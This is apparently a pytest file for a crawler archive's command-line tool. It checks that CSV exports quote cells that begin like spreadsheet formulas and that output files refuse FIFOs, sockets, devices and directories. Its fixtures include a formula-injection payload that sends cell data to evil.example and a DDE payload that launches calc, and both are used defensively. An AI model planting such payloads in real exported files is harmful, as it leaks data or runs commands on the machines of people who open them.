"""What the commands write outside the archive: CSV cells a spreadsheet would run as
formulas are quoted, and every `--out` / `--stats-json` is written whole, through a symlink,
to standard output for `-`, and never over a directory, FIFO, socket or device.

The archive is built with `tests.archive_factory` (no crawl); `snapshot` and `changes` run
in-process, `crawl` as a subprocess (two refusals, which stop before any fetch, and one
one-page crawl of the fixture site from disk).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import socket
import stat
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from crawler.commands.cli import main
from crawler.commands.formats import render_csv
from pipelines.archive.recorder import RunRecorder
from pipelines.changes.detection import compare
from pipelines.changes.reports import ReportFormat, render
from pipelines.core.store import ArchiveStore, new_run_id
from pipelines.notebook import open_archive
from tests.archive_factory import at, commit_run, make_page, run_record
from tests.crawl_runner import run_cli, run_main
from tests.site_server import SITE_ROOT

FORMULA_TITLES = {
    "equals": '=HYPERLINK("https://evil.example/?leak="&A1,"Asthma")',
    "plus": "+1 for the lungs",
    "minus": "-5 ways to breathe",
    "at": "@SUM(A1:A9)",
    "tab": "\tTabbed",
    "return": "\rReturned",
}
"""Topic slug -> a title starting with each character a spreadsheet reads as a formula."""
PLAIN_TITLE = "Asthma = airways, +/- @ night"
RUN_FINISH_REASON = "=cmd|' /C calc'!A0"
"""A text field of the second run, for `runs --format csv`."""
UNREACHABLE = "http://127.0.0.1:9"
"""A --base-url nothing answers: a crawl that wrongly went on would fetch nothing."""


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two runs: topics titled as formulas (and one plain), then a run whose finish reason
    is a formula."""
    root = tmp_path_factory.mktemp("outputs") / "archive"
    pages = [make_page(slug, title=title) for slug, title in FORMULA_TITLES.items()]
    pages.append(make_page("asthma", title=PLAIN_TITLE))
    commit_run(root, at(date(2024, 1, 10)), pages)
    when = at(date(2024, 3, 5))
    run_id = new_run_id(when)
    with ArchiveStore.open(root) as store:
        writer = RunRecorder.begin(store, run_id, when)
        record = run_record(run_id, when, writer)
        writer.commit(dataclasses.replace(record, finish_reason=RUN_FINISH_REASON))
    return root


def cli(capsys: pytest.CaptureFixture[str], *arguments: str | Path) -> tuple[int, str, str]:
    code = main([str(argument) for argument in arguments])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def listing(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


# --- CSV cells a spreadsheet would run ------------------------------------------------


def test_a_csv_snapshot_quotes_titles_that_start_like_formulas(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "topics.csv"
    code, _, err = cli(capsys, "snapshot", "--archive", archive, "--out", out)
    assert code == 0, err
    with out.open(encoding="utf-8", newline="") as stream:
        titles = {row["slug"]: row["title"] for row in csv.DictReader(stream)}
    expected = {slug: f"'{title}" for slug, title in FORMULA_TITLES.items()}
    assert titles == {**expected, "asthma": PLAIN_TITLE}


@pytest.mark.parametrize("slug", list(FORMULA_TITLES))
def test_history_csv_quotes_a_formula_title(
    archive: Path, capsys: pytest.CaptureFixture[str], slug: str
) -> None:
    code, out, err = cli(capsys, "history", slug, "--archive", archive, "--format", "csv")
    assert code == 0, err
    (row,) = csv_rows(out)
    assert row["title"] == f"'{FORMULA_TITLES[slug]}"


def test_runs_csv_quotes_a_formula_but_not_the_numbers(
    archive: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = cli(capsys, "runs", "--archive", archive, "--format", "csv")
    assert code == 0, err
    first, second = csv_rows(out)
    assert second["finish_reason"] == f"'{RUN_FINISH_REASON}"
    assert first["finish_reason"] == "finished"
    assert (first["pages_new"], first["versions_written"]) == ("7", "7")


def test_a_number_is_written_as_a_number_and_text_that_looks_like_one_is_quoted() -> None:
    rows = [{"count": -3, "share": -0.5, "text": "-3", "tags": ["=x"]}]
    assert render_csv(["count", "share", "text", "tags"], rows) == (
        'count,share,text,tags\n-3,-0.5,\'-3,"[""=x""]"\n'
    )


def test_jsonl_and_parquet_snapshots_keep_the_titles_as_they_are(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    expected = {**FORMULA_TITLES, "asthma": PLAIN_TITLE}
    jsonl = tmp_path / "topics.jsonl"
    assert cli(capsys, "snapshot", "--archive", archive, "--out", jsonl)[0] == 0
    lines = jsonl.read_text(encoding="utf-8").splitlines()
    assert {topic["slug"]: topic["title"] for topic in map(json.loads, lines)} == expected
    assert cli(capsys, "snapshot", "--archive", archive, "--out", tmp_path / "parquet")[0] == 0
    table = pq.read_table(tmp_path / "parquet" / "topics.parquet", columns=["slug", "title"])
    assert dict(zip(*table.to_pydict().values(), strict=True)) == expected


# --- targets that are not regular files -----------------------------------------------


@dataclasses.dataclass
class Target:
    """A path that is something other than a regular file, and how to tell it is intact."""

    path: Path
    fingerprint: object


def _fingerprint(path: Path) -> object:
    """What the target is: its type, device numbers, link text and directory listing."""
    status = path.lstat()
    return (
        stat.S_IFMT(status.st_mode),
        status.st_rdev,
        path.readlink() if path.is_symlink() else None,
        listing(path) if path.is_dir() and not path.is_symlink() else None,
        path.stat().st_mode if path.exists() else None,
    )


def _make(kind: str, folder: Path) -> Iterator[Path]:
    path = folder / "out.csv"
    if kind == "directory":
        path.mkdir()
        (path / "keep.txt").write_text("mine\n", encoding="utf-8")
    elif kind in {"fifo", "link-to-fifo"}:
        fifo = path if kind == "fifo" else folder / "pipe"
        os.mkfifo(fifo)
        if kind == "link-to-fifo":
            path.symlink_to(fifo.name)
        # A reader is waiting, so a write would not block the test: it would show.
        reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        try:
            yield path
            assert os.read(reader, 4096) == b""  # no writer came, nothing was written
        finally:
            os.close(reader)
        return
    elif kind == "socket":
        if len(str(path)) >= 100:
            pytest.skip("path too long for a Unix socket")
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(str(path))
            yield path
        return
    elif kind == "device":
        try:  # the numbers of /dev/null: harmless even if it were written to
            os.mknod(path, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
        except PermissionError:
            pytest.skip("cannot make a device node here")
    elif kind == "link-to-device":
        path.symlink_to(os.devnull)
    elif kind == "link-to-directory":
        (folder / "real").mkdir()
        path.symlink_to("real")
    yield path


@pytest.fixture(
    params=[
        "directory",
        "fifo",
        "socket",
        "device",
        "link-to-fifo",
        "link-to-device",
        "link-to-directory",
    ]
)
def target(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Target]:
    """A non-regular target in an otherwise empty folder; checked intact afterwards."""
    folder = tmp_path / "outputs"
    folder.mkdir()
    made = _make(request.param, folder)
    path = next(made)
    before = Target(path, _fingerprint(path))
    names = listing(folder)
    yield before
    assert _fingerprint(path) == before.fingerprint
    assert listing(folder) == names  # not even a temporary file
    next(made, None)


def _assert_refused(code: int, out: str, err: str, option: str, target: Target) -> None:
    assert (code, out) == (2, "")
    (line,) = err.splitlines()
    assert line.startswith(f"error: {option}: {target.path}"), line
    assert "not a regular file" in line


@pytest.mark.parametrize("snapshot_format", ["csv", "jsonl"])
def test_snapshot_refuses_a_target_that_is_not_a_regular_file(
    archive: Path, target: Target, capsys: pytest.CaptureFixture[str], snapshot_format: str
) -> None:
    arguments: list[str | Path] = ["--format", snapshot_format, "--out", target.path]
    code, out, err = cli(capsys, "snapshot", "--archive", archive, *arguments)
    _assert_refused(code, out, err, "--out", target)


def test_changes_refuses_a_target_that_is_not_a_regular_file(
    archive: Path, target: Target, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = cli(capsys, "changes", "--archive", archive, "--out", target.path)
    _assert_refused(code, out, err, "--out", target)


def test_a_parquet_snapshot_refuses_a_fifo(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    os.mkfifo(tmp_path / "snapshot")
    code, _, err = cli(capsys, "snapshot", "--archive", archive, "--out", tmp_path / "snapshot")
    assert code == 2
    assert err.startswith(f"error: --out: {tmp_path / 'snapshot'} already exists")
    assert stat.S_ISFIFO((tmp_path / "snapshot").lstat().st_mode)


def test_crawl_refuses_a_stats_file_that_is_a_fifo_before_crawling(tmp_path: Path) -> None:
    fifo = tmp_path / "stats.json"
    os.mkfifo(fifo)
    started = time.monotonic()
    result = run_main(
        "crawl", "--archive", tmp_path / "archive", "--base-url", UNREACHABLE,
        "--stats-json", fifo,
    )  # fmt: skip
    assert time.monotonic() - started < 10
    assert result.returncode == 2, result
    assert (
        result.stderr == f"error: --stats-json: {fifo} is a FIFO, not a regular file; give a file\n"
    )
    assert stat.S_ISFIFO(fifo.lstat().st_mode)
    assert not (tmp_path / "archive").exists()


# --- symlinks are written through -----------------------------------------------------


@pytest.fixture
def linked(tmp_path: Path) -> tuple[Path, Path]:
    """links/out -> ../real/target, an existing file with its own permissions."""
    (tmp_path / "links").mkdir()
    (tmp_path / "real").mkdir()
    target = tmp_path / "real" / "target"
    target.write_text("old\n", encoding="utf-8")
    target.chmod(0o640)
    link = tmp_path / "links" / "out"
    link.symlink_to(Path("..", "real", "target"))
    return link, target


def _assert_written_through(link: Path, target: Path) -> None:
    assert link.readlink() == Path("..", "real", "target")
    assert stat.S_IMODE(target.stat().st_mode) == 0o640
    assert listing(link.parent) == ["out"]
    assert listing(target.parent) == ["target"]


def test_snapshot_writes_through_a_symlink(
    archive: Path, linked: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    link, target = linked
    code, _, err = cli(capsys, "snapshot", "--archive", archive, "--format", "csv", "--out", link)
    assert code == 0, err
    _assert_written_through(link, target)
    assert len(csv_rows(target.read_text(encoding="utf-8"))) == len(FORMULA_TITLES) + 1


def test_changes_writes_through_a_symlink(
    archive: Path, linked: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    link, target = linked
    code, _, err = cli(capsys, "changes", "--archive", archive, "--format", "json", "--out", link)
    assert code == 0, err
    _assert_written_through(link, target)
    report = json.loads(target.read_text(encoding="utf-8"))
    assert report == json.loads(_changes_report(archive, "json"))


def test_a_dangling_symlink_gets_its_target_created(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    link = tmp_path / "out.jsonl"
    link.symlink_to("made.jsonl")
    assert cli(capsys, "snapshot", "--archive", archive, "--out", link)[0] == 0
    assert link.is_symlink()
    assert len((tmp_path / "made.jsonl").read_text(encoding="utf-8").splitlines()) == 7


def test_a_parquet_snapshot_fills_the_empty_directory_a_symlink_names(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "real").mkdir()
    link = tmp_path / "snapshot"
    link.symlink_to("real")
    code, _, err = cli(capsys, "snapshot", "--archive", archive, "--out", link)
    assert code == 0, err
    assert link.readlink() == Path("real")
    assert (tmp_path / "real" / "topics.parquet").is_file()
    assert listing(tmp_path) == ["real", "snapshot"]


# --- standard output ------------------------------------------------------------------


def _changes_report(archive: Path, report_format: ReportFormat) -> str:
    loaded = open_archive(archive)
    return render(compare(loaded, *loaded.run_ids), report_format)


def test_snapshot_to_standard_output(archive: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "snapshot", "--archive", archive, "--format", "csv", "--out", "-")
    assert code == 0, err
    assert {row["slug"] for row in csv_rows(out)} == {*FORMULA_TITLES, "asthma"}
    assert err.startswith("wrote 7 topics as of latest")
    code, out, _ = cli(capsys, "snapshot", "--archive", archive, "--format", "jsonl", "--out", "-")
    assert code == 0
    assert len([json.loads(line) for line in out.splitlines()]) == 7


def test_a_parquet_snapshot_cannot_go_to_standard_output(
    archive: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = cli(capsys, "snapshot", "--archive", archive, "--out", "-")
    assert (code, out) == (2, "")
    (line,) = err.splitlines()
    assert line.startswith("error: --out -: a parquet snapshot is a directory")


def test_changes_to_standard_output(archive: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = cli(capsys, "changes", "--archive", archive, "--out", "-")
    assert (code, err) == (0, "")
    assert out == _changes_report(archive, "md")


def test_crawl_stats_to_standard_output(tmp_path: Path) -> None:
    result = run_cli(
        "crawl", "--archive", tmp_path / "archive", "--base-url", SITE_ROOT.as_uri(),
        "--url", "https://medlineplus.gov/asthma.html", "--delay", "0", "--stats-json", "-",
    )  # fmt: skip
    assert result.returncode == 0, result
    stats = json.loads(result.stdout)
    assert stats["archive/run/exit_code"] == 0
    assert stats["archive/pages/parsed"] == 1


# --- the folder ----------------------------------------------------------------------


def test_a_stats_file_in_a_missing_folder_stops_the_crawl_before_it_starts(
    tmp_path: Path,
) -> None:
    stats = tmp_path / "missing" / "stats.json"
    started = time.monotonic()
    result = run_main(
        "crawl", "--archive", tmp_path / "archive", "--base-url", UNREACHABLE,
        "--stats-json", stats,
    )  # fmt: skip
    assert time.monotonic() - started < 10
    assert result.returncode == 2, result
    assert result.stderr == f"error: --stats-json: no such directory: {stats.parent}\n"
    assert not (tmp_path / "archive").exists()  # no run committed, nothing created


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes into any folder")
def test_an_out_in_a_folder_that_is_not_writable_is_refused(
    archive: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        code, out, err = cli(capsys, "changes", "--archive", archive, "--out", folder / "r.md")
    finally:
        folder.chmod(0o700)
    assert (code, out) == (2, "")
    assert err == f"error: --out: cannot write into {folder}: not writable\n"
